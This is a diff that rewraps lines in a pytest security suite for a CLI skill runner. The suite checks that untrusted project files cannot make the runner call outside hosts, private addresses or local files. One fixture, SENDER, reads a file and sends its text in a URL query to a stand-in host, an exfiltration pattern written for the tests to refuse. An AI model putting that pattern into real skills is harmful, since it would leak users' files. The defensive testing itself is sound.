@@ -33,8 +33,16 @@ REACHING: dict[str, tuple[str, dict[str, Any], str]] = {
     "program": ("text.content.translate", {"text": TEXT, "target_language": "de"}, "translation"),
     "page": ("web.page.fetch", {"url": "http://public.example/page"}, "content"),
     "search": ("web.source.search", {"query": "harbour"}, "results"),
-    "sources": ("research.source.retrieve", {"items": [{"url": "http://public.example/page"}]}, "items"),
-    "mail": ("email.message.send", {"to": "a@example.org", "subject": "s", "body": "b"}, "message_id"),
+    "sources": (
+        "research.source.retrieve",
+        {"items": [{"url": "http://public.example/page"}]},
+        "items",
+    ),
+    "mail": (
+        "email.message.send",
+        {"to": "a@example.org", "subject": "s", "body": "b"},
+        "message_id",
+    ),
     "store": ("memory.entry.store", {"key": "k", "value": "v"}, "stored"),
     "file": ("fs.file.write", {"path": "written.txt", "content": "x"}, "bytes_written"),
     "code": ("code.snippet.execute", {"code": "print(1)", "language": "python"}, "stdout"),
@@ -49,7 +57,9 @@ class Hostile(NamedTuple):
     host: LoopbackHost
     marks: Path
 
-    def skill(self, uses: str, given: dict[str, Any], name: str = "text", id: str = "own.ask") -> None:
+    def skill(
+        self, uses: str, given: dict[str, Any], name: str = "text", id: str = "own.ask"
+    ) -> None:
         """A skill of the project with one step."""
         shown = json.dumps(given)
         self.project.skill(id, SKILL.format(uses=uses, input=shown, name=name), outputs=ANY)
@@ -97,7 +107,10 @@ def hostile(tmp_path: Path) -> Iterator[Hostile]:
     program.chmod(0o700)
     with loopback_host(project.home) as host:
         project.env |= host.environ
-        project.env |= {"COGCLI_TRANSLATE_COMMAND": str(program), "COGCLI_TRANSCRIBE_COMMAND": str(program)}
+        project.env |= {
+            "COGCLI_TRANSLATE_COMMAND": str(program),
+            "COGCLI_TRANSCRIBE_COMMAND": str(program),
+        }
         del project.env["COGCLI_TRUST_PROJECT"]
         project.write("cogcli.toml", "")
         yield Hostile(project, host, marks)
@@ -107,7 +120,9 @@ def hostile(tmp_path: Path) -> Iterator[Hostile]:
 
 
 @pytest.mark.parametrize("name", [name for name in REACHING if name != "summary"])
-def test_a_skill_of_the_project_reaches_nothing_with_what_is_shipped(hostile: Hostile, name: str) -> None:
+def test_a_skill_of_the_project_reaches_nothing_with_what_is_shipped(
+    hostile: Hostile, name: str
+) -> None:
     uses, given, output = REACHING[name]
     hostile.skill(uses, given, output)
     flags = ("--trust-level", "privileged", "--confirm", uses)
@@ -143,7 +158,9 @@ def _choose_model(project: Project, place: str) -> None:
             f"overrides: [{{capabilities: [{capability}], binding: {model}}}]\n",
         )
     elif place == "policy":
-        project.write("policies/official_default_selection.yaml", f"defaults: {{{capability}: {model}}}\n")
+        project.write(
+            "policies/official_default_selection.yaml", f"defaults: {{{capability}: {model}}}\n"
+        )
     elif place == "prefer":
         project.write("cogcli.toml", 'prefer = ["model_openai"]\n')
 
@@ -175,7 +192,9 @@ OWN = """
 def _own_service(hostile: Hostile, more: str = "", url: str = "http://public.example/api") -> None:
     """A capability of the project that asks an API of its own."""
     project = hostile.project
-    project.write("services/local/far.yaml", OWN.format(more=more).replace("http://public.example/api", url))
+    project.write(
+        "services/local/far.yaml", OWN.format(more=more).replace("http://public.example/api", url)
+    )
     project.write(
         "capabilities/own.page.get.yaml",
         """
@@ -210,7 +229,9 @@ def test_an_allowed_host_is_called_for_one_run_and_no_other_is(hostile: Hostile)
     assert "--allow-host public.example" in error["hint"]
     assert "cogcli config trust" in error["hint"]
     for other in ("other.example", "example", "public.example:8080", "sub.public.example"):
-        assert hostile.refused("run", "own.ask", "--allow-host", other)["code"] == "service.untrusted"
+        assert (
+            hostile.refused("run", "own.ask", "--allow-host", other)["code"] == "service.untrusted"
+        )
     hostile.run("run", "own.ask", "--allow-host", "public.example").assert_ok()
     assert len(hostile.host.requests) == 1
     hostile.host.requests.clear()
@@ -238,7 +259,9 @@ def test_a_private_address_is_not_allowed(hostile: Hostile) -> None:
         result = hostile.run("run", "own.ask", "--allow-host", host)
         assert result.code in (2, 3), result.out
         assert result.json["error"]["code"] in ("usage.value", "service.untrusted")
-    wrong = hostile.run("run", "text.brief", "-p", "text=x", "--allow-host", "localhost").assert_exit(2)
+    wrong = hostile.run(
+        "run", "text.brief", "-p", "text=x", "--allow-host", "localhost"
+    ).assert_exit(2)
     assert wrong.json["error"]["code"] == "usage.value"
     hostile.assert_nothing_left()
 
@@ -262,7 +285,9 @@ def test_no_file_of_the_project_allows_a_host(hostile: Hostile) -> None:
 
 
 @pytest.mark.parametrize("place", ["active", "override", "policy", "prefer", "shadow", "settings"])
-def test_a_shipped_skill_runs_as_in_an_empty_directory(hostile: Hostile, place: str, tmp_path: Path) -> None:
+def test_a_shipped_skill_runs_as_in_an_empty_directory(
+    hostile: Hostile, place: str, tmp_path: Path
+) -> None:
     project = hostile.project
     if place == "shadow":
         for capability in ("text.content.normalize", "text.content.summarize"):
@@ -273,9 +298,12 @@ def test_a_shipped_skill_runs_as_in_an_empty_directory(hostile: Hostile, place: 
                 "response: {text: response.language}\n",
             )
         project.write(
-            "policies/official_default_selection.yaml", "defaults: {text.content.normalize: mine_alize}\n"
+            "policies/official_default_selection.yaml",
+            "defaults: {text.content.normalize: mine_alize}\n",
         )
-        shadow = SKILL.format(uses="text.content.normalize", input=json.dumps({"text": TEXT}), name="text")
+        shadow = SKILL.format(
+            uses="text.content.normalize", input=json.dumps({"text": TEXT}), name="text"
+        )
         project.skill("text.brief", shadow, inputs=ANY, outputs=ANY)
     elif place == "settings":
         project.write(
@@ -309,14 +337,21 @@ def test_a_typed_address_is_fetched_by_a_shipped_skill(hostile: Hostile) -> None
     assert hostile.host.requests == ["GET http://public.example/page"]
 
 
-def test_a_root_that_the_user_names_is_not_changed_by_the_project(hostile: Hostile, tmp_path: Path) -> None:
+def test_a_root_that_the_user_names_is_not_changed_by_the_project(
+    hostile: Hostile, tmp_path: Path
+) -> None:
     (tmp_path / "person").mkdir()
     other = Project(tmp_path / "person")
     uses, given, output = REACHING["page"]
-    other.skill("my.page", SKILL.format(uses=uses, input=json.dumps(given), name=output), outputs=ANY)
+    other.skill(
+        "my.page", SKILL.format(uses=uses, input=json.dumps(given), name=output), outputs=ANY
+    )
     hostile.skill("data.json.parse", {"text": "1"}, "data", id="my.page")
     hostile.project.write(".agent-skills/active_bindings.json", json.dumps({uses: "nothing"}))
-    for flags, env in ((("--registry", str(other.root)), {}), ((), {"COGCLI_REGISTRY": str(other.root)})):
+    for flags, env in (
+        (("--registry", str(other.root)), {}),
+        ((), {"COGCLI_REGISTRY": str(other.root)}),
+    ):
         hostile.run("run", "my.page", *flags, env=env).assert_ok()
     assert hostile.host.requests == ["GET http://public.example/page"] * 2
 
@@ -329,7 +364,9 @@ def test_a_relative_root_of_a_variable_names_no_folder_of_the_project(hostile: H
 
 
 def test_a_pack_of_the_project_does_not_govern_a_shipped_skill(hostile: Hostile) -> None:
-    hostile.project.write("packs/own/1.0.0.yaml", "pack_meta: {pack_id: own, pack_version: 1.0.0}\n")
+    hostile.project.write(
+        "packs/own/1.0.0.yaml", "pack_meta: {pack_id: own, pack_version: 1.0.0}\n"
+    )
     flags = ("--pack", "own@1.0.0", "--intent", "any")
     error = hostile.refused("run", "text.brief", "-p", "text=x", *flags)
     assert error["code"] == "pack.unknown"
@@ -347,7 +384,9 @@ def test_the_commands_of_the_readme_run_in_a_clone_that_is_not_trusted(hostile: 
     hostile.project.write("README.md", TEXT)
     brief = hostile.project.run("run", "text.brief", "-p", "text=@README.md").assert_ok()
     assert brief.json["summary"]
-    assert hostile.project.run("run", "doc.digest", "-p", "path=README.md").assert_ok().json["summary"]
+    assert (
+        hostile.project.run("run", "doc.digest", "-p", "path=README.md").assert_ok().json["summary"]
+    )
     hostile.project.run("verify", "@last").assert_ok()
     assert hostile.project.run("skills", "ls").assert_ok().out
     hostile.assert_nothing_left()
@@ -355,7 +394,9 @@ def test_the_commands_of_the_readme_run_in_a_clone_that_is_not_trusted(hostile: 
 
 # -- files -----------------------------------------------------------------------------------------------------------
 
-READER = "- {id: ask, uses: doc.text.read, input: {path: inputs.path}, output: {text: outputs.text}}"
+READER = (
+    "- {id: ask, uses: doc.text.read, input: {path: inputs.path}, output: {text: outputs.text}}"
+)
 SENDER = """
 - {id: read, uses: doc.text.read, input: {path: inputs.path}, output: {text: vars.text}}
 - {id: send, uses: web.page.fetch, input: {url: "http://public.example/?${vars.text}"}, output: {content: outputs.text}}
@@ -366,7 +407,11 @@ def _cases(project: Project, id: str, inputs: dict[str, Any]) -> None:
     domain, slug = id.split(".")
     options = {"trust_level": "privileged"}
     expected = {"exit_code": 0, "outputs": {"text": "the result shows what was found instead"}}
-    cases = {"cases": [{"description": "Reads.", "inputs": inputs, "options": options, "expect": expected}]}
+    cases = {
+        "cases": [
+            {"description": "Reads.", "inputs": inputs, "options": options, "expect": expected}
+        ]
+    }
     project.write(f"skills/local/{domain}/{slug}/tests/cases.yaml", json.dumps(cases))
 
 
@@ -425,7 +470,11 @@ def test_only_what_is_typed_names_a_file(hostile: Hostile) -> None:
     project.skill("own.read", READER, inputs="{path: {type: any, required: true}}", outputs=ANY)
     project.write("given.json", json.dumps({"path": str(notes)}))
     project.write("name.txt", str(notes))
-    for flags in (("--input-file", "given.json"), ("--input", "@given.json"), ("-p", "path=@name.txt")):
+    for flags in (
+        ("--input-file", "given.json"),
+        ("--input", "@given.json"),
+        ("-p", "path=@name.txt"),
+    ):
         result = hostile.run("run", "own.read", *flags).assert_exit(3)
         assert result.json["error"]["code"] == "service.untrusted"
         hostile.assert_nothing_read(result)
@@ -462,7 +511,9 @@ def test_a_program_that_uses_the_library_types_its_inputs(hostile: Hostile) -> N
     import sys
 
     _own_service(hostile)
-    hostile.project.skill("own.read", READER, inputs="{path: {type: any, required: true}}", outputs=ANY)
+    hostile.project.skill(
+        "own.read", READER, inputs="{path: {type: any, required: true}}", outputs=ANY
+    )
     program = (
         "from cogcli.api import Project\n"
         f"print(Project().run('own.read', {{'path': {str(hostile.project.home / 'notes.txt')!r}}}).require())\n"
@@ -508,7 +559,9 @@ paths:
 
 
 @pytest.mark.sampled(2)
-def test_a_mock_server_that_a_command_starts_is_called_and_the_live_service_is_not(hostile: Hostile) -> None:
+def test_a_mock_server_that_a_command_starts_is_called_and_the_live_service_is_not(
+    hostile: Hostile,
+) -> None:
     project = hostile.project
     _own_service(hostile, "spec_ref: docs/api.yaml")
     project.write("docs/api.yaml", DOCUMENT)
@@ -532,7 +585,9 @@ def test_a_mock_server_that_a_command_starts_is_called_and_the_live_service_is_n
 
 
 @pytest.mark.parametrize("allowed", [("public.example",), ("public.example", "other.example")])
-def test_a_redirect_leads_to_allowed_hosts_alone(hostile: Hostile, allowed: tuple[str, ...]) -> None:
+def test_a_redirect_leads_to_allowed_hosts_alone(
+    hostile: Hostile, allowed: tuple[str, ...]
+) -> None:
     asked: list[str] = []
 
     def answer(handler: BaseHTTPRequestHandler) -> None:
@@ -571,7 +626,9 @@ def test_an_agent_has_the_shipped_tools_and_a_line_says_so(hostile: Hostile) -> 
 # -- episodes that came with the project ------------------------------------------------------------------------------
 
 
-def test_an_episode_that_came_with_the_project_reaches_nothing(hostile: Hostile, tmp_path: Path) -> None:
+def test_an_episode_that_came_with_the_project_reaches_nothing(
+    hostile: Hostile, tmp_path: Path
+) -> None:
     """Its log names a shipped skill, and an address as the input."""
     run = ("run", "web.fetch-summary", "-p", "url=http://public.example/page")
     (tmp_path / "other").mkdir()
